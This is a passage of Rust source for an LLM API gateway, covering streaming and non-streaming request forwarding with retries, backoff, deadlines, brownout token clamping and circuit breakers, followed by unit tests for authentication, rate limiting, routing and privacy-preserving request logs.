            req.path[route.prefix.len()..].to_string()
        };
        let parsed_body = Json::parse(req.body_str()).ok();
        let is_stream =
            parsed_body.as_ref().map(|j| j.bool_or("stream", false)).unwrap_or(false);
        // Optional client-declared latency budget: retries are never
        // scheduled past it (the backoff pause is the costly part).
        let deadline_us = parsed_body
            .as_ref()
            .and_then(|j| j.at(&["deadline_ms"]))
            .and_then(|d| d.as_u64())
            .map(|ms| t0.saturating_add(ms.saturating_mul(1000)));
        let headers: Vec<(String, String)> = vec![
            ("content-type".into(), "application/json".into()),
            ("x-user-id".into(), user.clone()),
        ];
        let route_name = route.name.clone();
        let metrics = self.metrics.clone();
        let method = req.method.clone();
        let mut body = req.body.clone();

        // --- brownout: above the watermark, clamp the work per request
        //     instead of refusing it outright ---
        if self.admission.brownout_inflight > 0
            && inflight_now + 1 >= self.admission.brownout_inflight
        {
            if let Some(j) = parsed_body.as_ref().filter(|j| matches!(j, Json::Obj(_))) {
                if j.u64_or("max_tokens", u64::MAX) > self.admission.brownout_max_tokens {
                    body = j
                        .clone()
                        .set("max_tokens", self.admission.brownout_max_tokens)
                        .dump()
                        .into_bytes();
                    metrics.counter("gw_brownout_total", &[("route", &route_name)]).inc();
                }
            }
        }

        // Count this request inflight until its reply (or SSE pump) ends.
        self.inflight.fetch_add(1, Ordering::SeqCst);
        let admit_guard = InflightGuard(self.clone());

        if is_stream {
            let log = self.log.clone();
            let gw = self.clone();
            Reply::sse(move |sink| {
                let _admit = admit_guard;
                let route = &gw.routes[route_idx];
                let h: Vec<(&str, &str)> =
                    headers.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
                // A failed sink write means the downstream socket died: stop
                // pumping SSE, which disconnects the upstream hop and lets
                // the whole chain (proxy → SSH → interface → engine) unwind.
                // Frames the upstream already delivered are drained per
                // wake-up into ONE downstream write (single flush) instead
                // of a write per token frame. The usage block for the log
                // is picked up by a needle scan on each forwarded batch —
                // no per-frame tail copy of the stream is retained.
                //
                // An upstream that answers 5xx (or dies) before anything was
                // forwarded — its instance may just have been preempted or
                // walltime-killed — is abandoned and the request retried
                // against the next upstream (after a backoff pause), up to
                // the route's retry budget or the request's deadline.
                let max_attempts = route.retry.max_attempts;
                let mut backoff = route.retry.backoff(t0);
                let mut cached_tokens: Option<u64> = None;
                let mut forwarded = false;
                let mut attempt = 0u32;
                let mut last_failed: Option<String> = None;
                loop {
                    let pick =
                        route.attempt_upstream(last_failed.as_deref(), gw.clock.now_us());
                    let url = format!("{}{}{}", pick.url, route.rewrite, suffix);
                    let res = http::request_stream_coalesced(
                        &method,
                        &url,
                        &h,
                        &body,
                        |status, batch| {
                            if retryable_status(status) && !forwarded {
                                // Dead upstream: never forward its error
                                // body as token frames — retry it, or
                                // surface a structured error below.
                                return false;
                            }
                            let ok = sink.send(batch).is_ok();
                            if ok {
                                forwarded = true;
                                // The usage block rides the finish chunk,
                                // which the api layer frames as ONE chunked
                                // write (so it is never split across
                                // batches): a cheap needle scan per batch
                                // replaces copying every frame into a
                                // rolling tail buffer.
                                if batch.windows(7).any(|w| w == b"\"usage\"") {
                                    cached_tokens =
                                        sse_tail_cached_tokens(batch).or(cached_tokens);
                                }
                            }
                            ok
                        },
                    );
                    match res {
                        Ok((status, _, _))
                            if retryable_status(status)
                                && !forwarded
                                && attempt + 1 < max_attempts =>
                        {
                            gw.report_upstream(route, &pick, false);
                            if gw.retry_pause(&mut backoff, deadline_us) {
                                metrics
                                    .counter("gw_retries_total", &[("route", &route_name)])
                                    .inc();
                                attempt += 1;
                                last_failed = Some(pick.url);
                                continue;
                            }
                            // Deadline budget exhausted: the failure is
                            // final even with attempts left.
                            sink.send_event(
                                &Json::obj()
                                    .set("error", format!("upstream {status}"))
                                    .dump(),
                            )?;
                            return Ok(());
                        }
                        Ok((status, aborted, saved)) => {
                            gw.report_upstream(route, &pick, !retryable_status(status));
                            metrics
                                .histogram("gw_latency_seconds", &[("route", &route_name)])
                                .observe(gw.clock.now_us().saturating_sub(t0) as f64 / 1e6);
                            metrics
                                .counter(
                                    "gw_sse_frames_coalesced_total",
                                    &[("route", &route_name)],
                                )
                                .add(saved);
                            if retryable_status(status) && !forwarded {
                                // Retries exhausted, every upstream dead:
                                // the SSE reply's HTTP status is already
                                // committed, so surface the failure as a
                                // structured error event (same envelope
                                // convention as the transport-error arm).
                                sink.send_event(
                                    &Json::obj()
                                        .set("error", format!("upstream {status}"))
                                        .dump(),
                                )?;
                                return Ok(());
                            }
                            if aborted {
                                metrics
                                    .counter("gw_cancelled_total", &[("route", &route_name)])
                                    .inc();
                                log.mark_cancelled(log_idx);
                            } else if let Some(cached) = cached_tokens {
                                if cached > 0 {
                                    log.mark_cached_tokens(log_idx, cached);
                                }
                            }
                            return Ok(());
                        }
                        Err(_) if !forwarded && attempt + 1 < max_attempts => {
                            gw.report_upstream(route, &pick, false);
                            if gw.retry_pause(&mut backoff, deadline_us) {
                                metrics
                                    .counter("gw_retries_total", &[("route", &route_name)])
                                    .inc();
                                attempt += 1;
                                last_failed = Some(pick.url);
                                continue;
                            }
                            sink.send_event(
                                &Json::obj().set("error", "deadline exhausted").dump(),
                            )?;
                            return Ok(());
                        }
                        Err(e) => {
                            gw.report_upstream(route, &pick, false);
                            metrics
                                .histogram("gw_latency_seconds", &[("route", &route_name)])
                                .observe(gw.clock.now_us().saturating_sub(t0) as f64 / 1e6);
                            sink.send_event(&Json::obj().set("error", e.to_string()).dump())?;
                            return Ok(());
                        }
                    }
                }
            })
        } else {
            let _admit = admit_guard;
            let h: Vec<(&str, &str)> =
                headers.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
            let max_attempts = route.retry.max_attempts;
            let mut backoff = route.retry.backoff(t0);
            let mut reply = None;
            let mut last_failed: Option<String> = None;
            for attempt in 0..max_attempts {
                let pick = route.attempt_upstream(last_failed.as_deref(), self.clock.now_us());
                let url = format!("{}{}{}", pick.url, route.rewrite, suffix);
                match http::pooled_request(&method, &url, &h, &body) {
                    // A dead or instance-less upstream answers 502/503; the
                    // next attempt may land on a healthy path (a different
                    // upstream, or the same one after its routing table
                    // dropped the preempted instance).
                    Ok(resp)
                        if attempt + 1 < max_attempts && retryable_status(resp.status) =>
                    {
                        self.report_upstream(route, &pick, false);
                        if !self.retry_pause(&mut backoff, deadline_us) {
                            // Deadline budget exhausted: surface the last
                            // failure instead of pausing past it.
                            metrics
                                .counter(
                                    "gw_requests_total",
                                    &[
                                        ("route", &route_name),
                                        ("status", &resp.status.to_string()),
                                    ],
                                )
                                .inc();
                            reply = Some(Reply::full(resp));
                            break;
                        }
                        metrics
                            .counter("gw_retries_total", &[("route", &route_name)])
                            .inc();
                        last_failed = Some(pick.url);
                    }
                    // An upstream 429 is overload, not death: honor its
                    // Retry-After pacing hint instead of burning the retry
                    // budget against a neighbour in the same instant. No
                    // hint = no pacing information → the 429 is final.
                    Ok(resp) if resp.status == 429 && attempt + 1 < max_attempts => {
                        self.report_upstream(route, &pick, true);
                        match resp
                            .header_value("retry-after")
                            .and_then(|v| v.trim().parse::<u64>().ok())
                        {
                            Some(secs) => {
                                metrics
                                    .counter(
                                        "gw_retry_after_waits_total",
                                        &[("route", &route_name)],
                                    )
                                    .inc();
                                self.clock.sleep(Duration::from_secs(
                                    secs.min(MAX_RETRY_AFTER_SECS),
                                ));
                                // Same upstream again: it is busy, not dead.
                            }
                            None => {
                                metrics
                                    .counter(
                                        "gw_requests_total",
                                        &[("route", &route_name), ("status", "429")],
                                    )
                                    .inc();
                                reply = Some(Reply::full(resp));
                                break;
                            }
                        }
                    }
                    Ok(resp) => {
                        self.report_upstream(route, &pick, !retryable_status(resp.status));
                        metrics
                            .counter(
                                "gw_requests_total",
                                &[("route", &route_name), ("status", &resp.status.to_string())],
                            )
                            .inc();
                        // Usage accounting for the log: how much of the
                        // prompt the instance's prefix cache absorbed
                        // (still no prompt/response content, §6.2 — a
                        // single integer).
                        if resp.status == 200 {
                            if let Ok(j) = resp.json_body() {
                                let cached = j
                                    .at(&["usage", "cached_tokens"])
                                    .and_then(|c| c.as_u64())
                                    .unwrap_or(0);
                                if cached > 0 {
                                    self.log.mark_cached_tokens(log_idx, cached);
                                }
                            }
                        }
                        reply = Some(Reply::full(resp));
                        break;
                    }
                    Err(_) if attempt + 1 < max_attempts => {
                        self.report_upstream(route, &pick, false);
                        if !self.retry_pause(&mut backoff, deadline_us) {
                            metrics
                                .counter(
                                    "gw_requests_total",
                                    &[("route", &route_name), ("status", "502")],
                                )
                                .inc();
                            reply = Some(Reply::full(Response::json(
                                502,
                                &Json::obj()
                                    .set("error", "upstream error, deadline exhausted"),
                            )));
                            break;
                        }
                        metrics
                            .counter("gw_retries_total", &[("route", &route_name)])
                            .inc();
                        last_failed = Some(pick.url);
                    }
                    Err(e) => {
                        self.report_upstream(route, &pick, false);
                        metrics
                            .counter(
                                "gw_requests_total",
                                &[("route", &route_name), ("status", "502")],
                            )
                            .inc();
                        reply = Some(Reply::full(Response::json(
                            502,
                            &Json::obj().set("error", e.to_string()),
                        )));
                        break;
                    }
                }
            }
            metrics
                .histogram("gw_latency_seconds", &[("route", &route_name)])
                .observe(self.clock.now_us().saturating_sub(t0) as f64 / 1e6);
            reply.expect("the final attempt always produces a reply")
        }
    }
}

/// Extract `usage.cached_tokens` from the tail of a completed SSE stream:
/// the api layer emits the usage block on the finish chunk, which is always
/// within the retained tail. Truncation can only clip *earlier* events,
/// whose parse failures are skipped.
fn sse_tail_cached_tokens(tail: &[u8]) -> Option<u64> {
    let text = String::from_utf8_lossy(tail);
    text.lines()
        .rev()
        .filter_map(|l| l.strip_prefix("data: "))
        .filter_map(|d| Json::parse(d).ok())
        .find_map(|j| j.at(&["usage", "cached_tokens"]).and_then(|c| c.as_u64()))
}

/// Small helper for benches/tests: wait until an HTTP endpoint answers 200.
pub fn wait_healthy(url: &str, timeout: Duration) -> bool {
    let start = std::time::Instant::now();
    while start.elapsed() < timeout {
        if http::request_timeout("GET", url, &[], &[], Duration::from_millis(300))
            .map(|r| r.status == 200)
            .unwrap_or(false)
        {
            return true;
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    false
}

#[cfg(test)]
mod tests {
    use super::*;

    fn upstream_echo() -> Server {
        Server::start(Arc::new(|req: &Request| {
            let user = req.header("x-user-id").unwrap_or("?").to_string();
            Reply::full(Response::json(
                200,
                &Json::obj().set("path", req.path.as_str()).set("user", user),
            ))
        }))
        .unwrap()
    }

    fn gw(routes: Vec<Route>, sso: Option<SsoProvider>) -> (Arc<Gateway>, Server) {
        let consumers = vec![
            Consumer { id: "api-user-1".into(), api_key: "key-abc".into(), group: "research".into() },
            Consumer { id: "api-user-2".into(), api_key: "key-def".into(), group: "students".into() },
        ];
        let gateway = Gateway::new(routes, consumers, sso, Registry::new(), RequestLog::new());
        let server = gateway.clone().start().unwrap();
        (gateway, server)
    }

    #[test]
    fn routes_by_prefix_and_attaches_user() {
        let up = upstream_echo();
        let routes =
            vec![Route::new("m", "/v1/m/chat/", vec![up.url()], "/v1/chat/completions")];
        let (_gw, server) = gw(routes, None);
        let r = http::request(
            "POST",
            &format!("{}/v1/m/chat/", server.url()),
            &[("authorization", "Bearer key-abc")],
            b"{}",
        )
        .unwrap();
        assert_eq!(r.status, 200);
        let j = r.json_body().unwrap();
        assert_eq!(j.str_or("user", ""), "api-user-1");
        assert_eq!(j.str_or("path", ""), "/v1/chat/completions");
    }

    #[test]
    fn auth_required_and_sso_accepted() {
        let up = upstream_echo();
        let sso = SsoProvider::new();
        sso.register("ada@uni", "pw");
        let routes = vec![Route::new("m", "/chat/", vec![up.url()], "/x")];
        let (_gw, server) = gw(routes, Some(sso.clone()));
        // No credentials -> 401.
        let r = http::request("POST", &format!("{}/chat/", server.url()), &[], b"{}").unwrap();
        assert_eq!(r.status, 401);
        // Bad key -> 401.
        let r = http::request(
            "POST",
            &format!("{}/chat/", server.url()),
            &[("authorization", "Bearer nope")],
            b"{}",
        )
        .unwrap();
        assert_eq!(r.status, 401);
        // SSO session -> 200 with email as user id.
        let token = sso.login("ada@uni", "pw").unwrap();
        let r = http::request(
            "POST",
            &format!("{}/chat/", server.url()),
            &[("authorization", &format!("Bearer {token}"))],
            b"{}",
        )
        .unwrap();
        assert_eq!(r.status, 200);
        assert_eq!(r.json_body().unwrap().str_or("user", ""), "ada@uni");
    }

    #[test]
    fn rate_limit_enforced_per_consumer() {
        let up = upstream_echo();
        let routes =
            vec![Route::new("m", "/chat/", vec![up.url()], "/x").with_rate_limit(3.0)];
        let (_gw, server) = gw(routes, None);
        let call = |key: &str| {
            http::request(
                "POST",
                &format!("{}/chat/", server.url()),
                &[("authorization", &format!("Bearer {key}"))],
                b"{}",
            )
            .unwrap()
            .status
        };
        let mut ok = 0;
        let mut limited = 0;
        for _ in 0..10 {
            match call("key-abc") {
                200 => ok += 1,
                429 => limited += 1,
                s => panic!("unexpected {s}"),
            }
        }
        assert!(ok >= 3 && limited > 0, "ok={ok} limited={limited}");
        // A different consumer has its own bucket.
        assert_eq!(call("key-def"), 200);
    }

    #[test]
    fn group_restriction_like_gpt4_route() {
        let up = upstream_echo();
        let routes = vec![
            Route::new("gpt-4", "/external/", vec![up.url()], "/x").with_groups(&["research"]),
        ];
        let (_gw, server) = gw(routes, None);
        let status = |key: &str| {
            http::request(
                "POST",
                &format!("{}/external/", server.url()),
                &[("authorization", &format!("Bearer {key}"))],
                b"{}",
            )
            .unwrap()
            .status
        };
        assert_eq!(status("key-abc"), 200, "research group allowed");
        assert_eq!(status("key-def"), 403, "students group blocked");
    }

    #[test]
    fn round_robin_across_upstreams() {
        let up1 = upstream_echo();
        let up2 = upstream_echo();
        let routes = vec![Route::new("m", "/c/", vec![up1.url(), up2.url()], "/x").public()];
        let (_gw, server) = gw(routes, None);
        // Both upstreams get traffic (we can't see which, but no failures
        // over many calls proves rotation isn't sticking to a dead index).
        for _ in 0..10 {
            let r =
                http::request("POST", &format!("{}/c/", server.url()), &[], b"{}").unwrap();
            assert_eq!(r.status, 200);
        }
    }

    #[test]
    fn weighted_round_robin_matches_capacity() {
        // Upstream A advertises 3x the capacity of B (e.g. a pooled proxy
        // with 3 connections vs a single-connection one): exactly 3/4 of
        // the traffic must land on A.
        fn marker(name: &'static str) -> Server {
            Server::start(Arc::new(move |_req: &Request| {
                Reply::full(Response::json(200, &Json::obj().set("up", name)))
            }))
            .unwrap()
        }
        let up_a = marker("a");
        let up_b = marker("b");
        let routes = vec![Route::new("m", "/c/", vec![up_a.url(), up_b.url()], "/x")
            .public()
            .with_weights(vec![3, 1])];
        let (_gw, server) = gw(routes, None);
        let (mut a, mut b) = (0, 0);
        for _ in 0..8 {
            let r = http::request("POST", &format!("{}/c/", server.url()), &[], b"{}").unwrap();
            assert_eq!(r.status, 200);
            match r.json_body().unwrap().str_or("up", "?") {
                "a" => a += 1,
                "b" => b += 1,
                other => panic!("unexpected upstream {other}"),
            }
        }
        assert_eq!((a, b), (6, 2), "3:1 weights over 8 requests");
    }

    #[test]
    fn retries_dead_upstream_against_next_one() {
        // Upstream A always 502 (its instance was preempted between
        // placement and completion); upstream B is healthy. Smooth WRR
        // sends the first attempt to A — the retry must land on B and the
        // client must see a clean 200.
        let up_a = Server::start(Arc::new(|_req: &Request| {
            Reply::full(Response::json(502, &Json::obj().set("error", "instance gone")))
        }))
        .unwrap();
        let up_b = upstream_echo();
        let routes = vec![Route::new("m", "/c/", vec![up_a.url(), up_b.url()], "/x")
            .public()
            .with_retries(1)];
        let metrics = Registry::new();
        let gateway =
            Gateway::new(routes, vec![], None, metrics.clone(), RequestLog::new());
        let server = gateway.start().unwrap();
        let r = http::request("POST", &format!("{}/c/", server.url()), &[], b"{}").unwrap();
        assert_eq!(r.status, 200, "retry did not rescue the request");
        assert_eq!(metrics.counter("gw_retries_total", &[("route", "m")]).get(), 1);
        // Retries are opt-in: a default route surfaces the 502 as-is.
        let routes = vec![Route::new("m", "/c/", vec![up_a.url(), up_b.url()], "/x").public()];
        let gateway = Gateway::new(routes, vec![], None, Registry::new(), RequestLog::new());
        let server = gateway.start().unwrap();
        let r = http::request("POST", &format!("{}/c/", server.url()), &[], b"{}").unwrap();
        assert_eq!(r.status, 502);
    }

    #[test]
    fn retry_skips_the_upstream_that_just_failed_despite_weights() {
        // Upstream A is heavy (weight 3) and dead; smooth WRR would hand
        // it back on the retry too — the retry path must skip it and
        // reach B.
        let up_a = Server::start(Arc::new(|_req: &Request| {
            Reply::full(Response::json(502, &Json::obj().set("error", "dead")))
        }))
        .unwrap();
        let up_b = upstream_echo();
        let routes = vec![Route::new("m", "/c/", vec![up_a.url(), up_b.url()], "/x")
            .public()
            .with_weights(vec![3, 1])
            .with_retries(1)];
        let metrics = Registry::new();
        let gateway =
            Gateway::new(routes, vec![], None, metrics.clone(), RequestLog::new());
        let server = gateway.start().unwrap();
        for _ in 0..4 {
            let r = http::request("POST", &format!("{}/c/", server.url()), &[], b"{}").unwrap();
            assert_eq!(r.status, 200, "retry burned its budget on the dead upstream");
        }
    }

    #[test]
    fn stream_retry_before_first_frame_rescues_request() {
        let up_a = Server::start(Arc::new(|_req: &Request| {
            Reply::full(Response::json(502, &Json::obj().set("error", "instance gone")))
        }))
        .unwrap();
        let up_b = Server::start(Arc::new(|_req: &Request| {
            Reply::sse(|sink| {
                for i in 0..3 {
                    sink.send_event(&format!("tok{i}"))?;
                }
                Ok(())
            })
        }))
        .unwrap();
        let routes = vec![Route::new("m", "/c/", vec![up_a.url(), up_b.url()], "/x")
            .public()
            .with_retries(1)];
        let metrics = Registry::new();
        let gateway =
            Gateway::new(routes, vec![], None, metrics.clone(), RequestLog::new());
        let server = gateway.start().unwrap();
        let mut parser = http::SseParser::default();
        let mut events = Vec::new();
        let status = http::request_stream(
            "POST",
            &format!("{}/c/", server.url()),
            &[],
            b"{\"stream\":true}",
            |chunk| events.extend(parser.push(chunk)),
        )
        .unwrap();
        assert_eq!(status, 200);
        assert_eq!(events, vec!["tok0", "tok1", "tok2"], "stream not rescued");
        assert_eq!(metrics.counter("gw_retries_total", &[("route", "m")]).get(), 1);
        assert_eq!(
            metrics.counter("gw_cancelled_total", &[("route", "m")]).get(),
            0,
            "a retried upstream must not count as a client cancellation"
        );
    }

    #[test]
    fn unknown_route_404_and_metrics_exposed() {
        let (_gw, server) = gw(vec![], None);
        let r = http::get(&format!("{}/nope", server.url())).unwrap();
        assert_eq!(r.status, 404);
        let m = http::get(&format!("{}/metrics", server.url())).unwrap();
        assert!(m.body_str().contains("gw_requests_total"));
    }

    #[test]
    fn client_disconnect_stops_sse_pump_and_tags_log() {
        use std::sync::atomic::{AtomicUsize, Ordering};
        // Upstream streams 40 events over ~2 s and stops when its sink
        // write fails (i.e. when the gateway hangs up).
        let sent = Arc::new(AtomicUsize::new(0));
        let sent2 = sent.clone();
        let upstream = Server::start(Arc::new(move |_req: &Request| {
            let sent = sent2.clone();
            Reply::sse(move |sink| {
                for i in 0..40 {
                    std::thread::sleep(Duration::from_millis(50));
                    if sink.send_event(&format!("tok{i}")).is_err() {
                        return Ok(());
                    }
                    sent.fetch_add(1, Ordering::SeqCst);
                }
                Ok(())
            })
        }))
        .unwrap();
        let routes = vec![Route::new("m", "/c/", vec![upstream.url()], "/x")];
        let log = RequestLog::new();
        let metrics = Registry::new();
        let gateway = Gateway::new(
            routes,
            vec![Consumer { id: "u1".into(), api_key: "k".into(), group: "g".into() }],
            None,
            metrics.clone(),
            log.clone(),
        );
        let server = gateway.start().unwrap();
        // Client asks for a stream, reads two events, hangs up.
        let mut events = 0usize;
        let (status, aborted) = http::request_stream_ctl(
            "POST",
            &format!("{}/c/", server.url()),
            &[("authorization", "Bearer k")],
            b"{\"stream\":true}",
            |_| {
                events += 1;
                events < 2
            },
        )
        .unwrap();
        assert_eq!(status, 200);
        assert!(aborted);
        // The gateway stops pumping: upstream sees the hangup well before
        // event 40, the cancel counter ticks, and the log entry is tagged.
        let deadline = std::time::Instant::now() + Duration::from_secs(5);
        while metrics.counter("gw_cancelled_total", &[("route", "m")]).get() == 0 {
            assert!(std::time::Instant::now() < deadline, "gateway never noticed hangup");
            std::thread::sleep(Duration::from_millis(20));
        }
        std::thread::sleep(Duration::from_millis(300));
        let pumped = sent.load(Ordering::SeqCst);
        assert!(pumped < 30, "gateway kept pumping after disconnect: {pumped}");
        let entries = log.entries();
        assert_eq!(entries.len(), 1);
        assert!(entries[0].cancelled, "log entry not tagged as cancelled");
    }

    #[test]
    fn rate_limiter_map_is_bounded_under_key_scans() {
        let routes =
            vec![Route::new("m", "/c/", vec!["http://127.0.0.1:1".into()], "/x")
                .with_rate_limit(10.0)];
        let gateway = Gateway::new(routes, vec![], None, Registry::new(), RequestLog::new());
        // A scanning client fabricates more consumer identities than the
        // cap; the map must never exceed MAX_BUCKETS.
        for i in 0..(MAX_BUCKETS + 64) {
            let b = gateway.bucket(&gateway.routes[0], &format!("scan-{i}"));
            assert!(b.is_some());
            let n = gateway.buckets.lock().unwrap().len();
            assert!(n <= MAX_BUCKETS, "bucket map grew to {n}");
        }
        // Legit consumers keep working after the churn.
        let b = gateway.bucket(&gateway.routes[0], "real-user").unwrap();
        assert!(b.try_take());
    }

    #[test]
    fn rate_limit_refills_on_the_injected_clock() {
        use crate::util::clock::SimClock;
        let clock = SimClock::new();
        let routes =
            vec![Route::new("m", "/c/", vec!["http://127.0.0.1:1".into()], "/x")
                .with_rate_limit(2.0)];
        let gateway = Gateway::new_with_clock(
            routes,
            vec![],
            None,
            Registry::new(),
            RequestLog::new(),
            clock.clone(),
        );
        let b = gateway.bucket(&gateway.routes[0], "u1").unwrap();
        // Capacity 2: a burst of two, then dry.
        assert!(b.try_take());
        assert!(b.try_take());
        assert!(!b.try_take());
        // No wall time passes; half a virtual second refills exactly one
        // token at 2/s.
        clock.advance(Duration::from_millis(500));
        assert!(b.try_take());
        assert!(!b.try_take());
    }

    #[test]
    fn bucket_eviction_follows_the_injected_clock() {
        use crate::util::clock::SimClock;
        let clock = SimClock::new();
        let routes =
            vec![Route::new("m", "/c/", vec!["http://127.0.0.1:1".into()], "/x")
                .with_rate_limit(10.0)];
        let gateway = Gateway::new_with_clock(
            routes,
            vec![],
            None,
            Registry::new(),
            RequestLog::new(),
            clock.clone(),
        );
        // Fill the map to the cap, then move virtual time past the refill
        // horizon (capacity/rate = 1 s): every idle bucket is expired, so
        // the next insert prunes them all instead of evicting a live batch.
        for i in 0..MAX_BUCKETS {
            let _ = gateway.bucket(&gateway.routes[0], &format!("idle-{i}"));
        }
        assert_eq!(gateway.buckets.lock().unwrap().len(), MAX_BUCKETS);
        clock.advance(Duration::from_secs(2));
        let _ = gateway.bucket(&gateway.routes[0], "fresh").unwrap();
        let n = gateway.buckets.lock().unwrap().len();
        assert_eq!(n, 1, "expired buckets survived the virtual-time horizon");
    }

    #[test]
    fn sse_tail_usage_extraction() {
        // The finish chunk's usage block is found even behind later events
        // and a clipped front.
        let tail = b"ken\"}}]}\n\ndata: {\"choices\":[{\"delta\":{},\"finish_reason\":\"stop\"}],\"usage\":{\"prompt_tokens\":40,\"cached_tokens\":31}}\n\ndata: [DONE]\n\n";
        assert_eq!(sse_tail_cached_tokens(tail), Some(31));
        assert_eq!(sse_tail_cached_tokens(b"data: {\"x\":1}\n\n"), None);
        assert_eq!(sse_tail_cached_tokens(b""), None);
    }

    #[test]
    fn request_log_records_minimal_fields() {
        let up = upstream_echo();
        let routes = vec![Route::new("m", "/c/", vec![up.url()], "/x")];
        let log = RequestLog::new();
        let gateway = Gateway::new(
            routes,
            vec![Consumer { id: "u1".into(), api_key: "k".into(), group: "g".into() }],
            None,
            Registry::new(),
            log.clone(),
        );
        let server = gateway.start().unwrap();
        let _ = http::request(
            "POST",
            &format!("{}/c/", server.url()),
            &[("authorization", "Bearer k")],
            b"{\"messages\":[{\"content\":\"SECRET PROMPT\"}]}",
        )
        .unwrap();
        let entries = log.entries();
        assert_eq!(entries.len(), 1);
        assert_eq!(entries[0].user, "u1");
        assert_eq!(entries[0].model, "m");
        // Privacy: the log never contains prompt content (§6.2).
        let dump = format!("{:?}", entries);
        assert!(!dump.contains("SECRET"), "prompt leaked into usage log");
    }

    #[test]
    fn breaker_ejects_dead_upstream_and_reinstates_after_recovery() {
        use std::sync::atomic::AtomicU64;
        // Upstream A fails its first 3 requests — enough to trip the
        // breaker — then recovers; B is always healthy.
        let a_hits = Arc::new(AtomicU64::new(0));
        let hits = a_hits.clone();
        let up_a = Server::start(Arc::new(move |_req: &Request| {
            if hits.fetch_add(1, Ordering::SeqCst) < 3 {
                Reply::full(Response::json(503, &Json::obj().set("error", "dying")))
            } else {
                Reply::full(Response::json(200, &Json::obj().set("up", "a")))
            }
        }))
        .unwrap();
        let up_b = upstream_echo();
        let routes = vec![Route::new("m", "/c/", vec![up_a.url(), up_b.url()], "/x")
            .public()
            .with_retries(1)
            .with_breaker(BreakerConfig {
                consecutive_failures: 3,
                open_for: Duration::from_millis(500),
                half_open_probes: 1,
            })];
        let a_url = up_a.url();
        let metrics = Registry::new();
        let gateway = Gateway::new(routes, vec![], None, metrics.clone(), RequestLog::new());
        let server = gateway.start().unwrap();
        let call =
            || http::request("POST", &format!("{}/c/", server.url()), &[], b"{}").unwrap();
        // WRR alternates A,B; the first three A attempts fail (rescued by
        // the retry), the third trips the breaker, then A is ejected.
        for _ in 0..6 {
            assert_eq!(call().status, 200);
        }
        assert_eq!(
            metrics
                .counter("gw_breaker_trips_total", &[("route", "m"), ("upstream", &a_url)])
                .get(),
            1
        );
        assert_eq!(a_hits.load(Ordering::SeqCst), 3, "open breaker still admitted traffic");
        // Once the open window expires, a half-open probe reaches the now
        // healthy A and reinstates it.
        std::thread::sleep(Duration::from_millis(600));
        for _ in 0..4 {
            assert_eq!(call().status, 200);
        }
        assert!(a_hits.load(Ordering::SeqCst) >= 4, "A was never probed and reinstated");
        assert_eq!(
            metrics.gauge("gw_breaker_state", &[("route", "m"), ("upstream", &a_url)]).get(),
            0,
            "breaker did not converge closed"
        );
    }

    #[test]
    fn prop_breaker_converges_closed_on_healthy_upstream() {
        use crate::prop_assert;
        use crate::util::prop::run_prop;
        run_prop("breaker_converges_closed", 0xb4ea, 200, |rng| {
            let cfg = BreakerConfig {
                consecutive_failures: rng.range(1, 5) as u32,
                open_for: Duration::from_millis(rng.range(1, 500)),
                half_open_probes: rng.range(1, 3) as u32,
            };
            let breaker = CircuitBreaker::new(cfg);
            let mut now = rng.range(0, 1_000_000);
            // Chaos phase: arbitrary failures/successes, dangling probes
            // (an allow() whose outcome never arrives), and time jumps.
            for _ in 0..rng.range(0, 40) {
                let roll = rng.f64();
                if roll < 0.5 {
                    let _ = breaker.allow(now);
                    breaker.on_failure(now);
                } else if roll < 0.75 {
                    let _ = breaker.allow(now);
                } else {
                    breaker.on_success();
                }
                now += rng.range(0, 200_000);
            }
            // Healthy phase: the upstream answers every admitted request
            // OK. The breaker must re-admit traffic and converge closed —
            // half-open probing cannot livelock.
            let mut ticks = 0u32;
            while breaker.state_code() != 0 {
                if breaker.allow(now) {
                    breaker.on_success();
                }
                now += 50_000;
                ticks += 1;
                prop_assert!(ticks < 1000, "breaker livelocked against healthy upstream");
            }
            // And once closed it stays open for business.
            prop_assert!(breaker.allow(now), "closed breaker denied traffic");
            Ok(())
        });
    }

    #[test]
    fn upstream_429_honors_retry_after_instead_of_immediate_retry() {
        use std::sync::atomic::AtomicU64;
        // First hit: 429 + Retry-After: 1. Second hit: 200.
        let hits = Arc::new(AtomicU64::new(0));
        let h2 = hits.clone();
        let up = Server::start(Arc::new(move |_req: &Request| {
            if h2.fetch_add(1, Ordering::SeqCst) == 0 {
                Reply::full(
                    Response::json(429, &Json::obj().set("error", "busy"))
                        .header("retry-after", "1"),
                )
            } else {
                Reply::full(Response::json(200, &Json::obj().set("ok", true)))
            }
        }))
        .unwrap();
        let routes =
            vec![Route::new("m", "/c/", vec![up.url()], "/x").public().with_retries(1)];
        let metrics = Registry::new();
        let gateway = Gateway::new(routes, vec![], None, metrics.clone(), RequestLog::new());
        let server = gateway.start().unwrap();
        let t = std::time::Instant::now();
        let r = http::request("POST", &format!("{}/c/", server.url()), &[], b"{}").unwrap();
        assert_eq!(r.status, 200, "retry after the advertised wait should succeed");
        assert!(
            t.elapsed() >= Duration::from_secs(1),
            "Retry-After not honored: retried after {:?}",
            t.elapsed()
        );
        assert_eq!(metrics.counter("gw_retry_after_waits_total", &[("route", "m")]).get(), 1);
        assert_eq!(
            metrics.counter("gw_retries_total", &[("route", "m")]).get(),
            0,
            "a paced 429 retry must not burn the 5xx retry budget"
        );

        // Without a Retry-After hint the 429 is final — no blind retry.
        let hits = Arc::new(AtomicU64::new(0));
        let h2 = hits.clone();
        let up = Server::start(Arc::new(move |_req: &Request| {
            h2.fetch_add(1, Ordering::SeqCst);
            Reply::full(Response::json(429, &Json::obj().set("error", "busy")))
        }))
        .unwrap();
        let routes =
            vec![Route::new("m", "/c/", vec![up.url()], "/x").public().with_retries(1)];
        let gateway = Gateway::new(routes, vec![], None, Registry::new(), RequestLog::new());
        let server = gateway.start().unwrap();
        let r = http::request("POST", &format!("{}/c/", server.url()), &[], b"{}").unwrap();
        assert_eq!(r.status, 429);
        assert_eq!(hits.load(Ordering::SeqCst), 1, "hint-less 429 was blindly retried");
    }

    #[test]
    fn deadline_budget_stops_retries_early() {
        // Dead upstream + generous retry budget, but a 1 ms deadline: the
        // first backoff pause (base 10 ms) no longer fits, so the failure
        // surfaces immediately instead of burning the whole budget.
        let routes = vec![Route::new("m", "/c/", vec!["http://127.0.0.1:1".into()], "/x")
            .public()
            .with_retries(5)];
        let metrics = Registry::new();
        let gateway = Gateway::new(routes, vec![], None, metrics.clone(), RequestLog::new());
